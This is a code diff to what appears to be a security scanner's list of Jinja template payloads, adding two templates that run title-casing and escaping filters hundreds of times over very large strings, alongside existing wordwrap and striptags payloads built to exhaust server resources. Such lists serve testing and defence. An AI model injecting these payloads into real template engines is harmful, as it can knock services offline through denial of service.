@@ -74,6 +74,8 @@ export const jinja: Payload[] = [
   ]),
   ...payloads('ends', [
     '{{ ("a-" * 300000) | wordwrap(3) | length }}',
+    '{% set s = "a-" * 100000 %}{% for i in range(400) %}{% set t = s | title %}{% endfor %}',
+    '{% set s = "&" * 200000 %}{% for i in range(400) %}{% set t = s | e %}{% endfor %}',
     '{{ ("a" * 400000 ~ "-") | wordwrap(3) | length }}',
     '{{ ("<" * 400000) | striptags | length }}',
     '{{ ("&#" * 200000) | striptags | length }}',
